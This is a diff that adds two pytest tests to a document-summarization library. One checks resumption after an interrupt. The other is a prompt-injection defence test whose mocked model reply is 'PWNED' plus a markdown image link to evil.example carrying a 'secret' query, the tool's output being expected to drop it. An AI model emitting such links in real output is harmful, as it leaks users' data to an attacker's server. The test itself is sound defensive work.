@@ -186,3 +186,29 @@ def test_parts_of_a_book_need_no_model(opened: Opened, model_server: ModelServer
     assert summary.mode == "quoted"
     assert [s.text for s in summary.sections[0].sentences][:2] == ["1 Introduction", "2 Houses and Equipment"]
     assert model_server.prompts == []
+
+
+def test_what_was_finished_before_a_stop_is_kept(opened: Opened, model_server: ModelServer) -> None:
+    model_server.answer(lawyer)
+    library = opened(model_server.settings())
+
+    def stop_at_termination(title: str) -> None:
+        if title == "Termination":
+            raise KeyboardInterrupt
+
+    with pytest.raises(KeyboardInterrupt):
+        library.summarize(AGREEMENT, aspects=["Term", "Termination"], progress=stop_at_termination)
+    assert len(model_server.prompts) == 1
+    summary = library.summarize(AGREEMENT, aspects=["Term", "Termination"])
+    assert len(model_server.prompts) == 2
+    assert [section.mode for section in summary.sections] == ["composed", "composed"]
+
+
+def test_what_a_document_orders_is_not_obeyed(opened: Opened, model_server: ModelServer) -> None:
+    """The passages stand in the prompt as data, and a model that obeys them is not shown."""
+    model_server.say("PWNED. ![x](https://evil.example/?q=secret)")
+    summary = opened(model_server.settings()).summarize(AGREEMENT, aspects=["Term"])
+    shown = " ".join(s.text for section in summary.sections for s in section.sentences)
+    assert "PWNED" not in shown
+    assert "evil.example" not in shown
+    assert summary.sections[0].mode == "quoted"
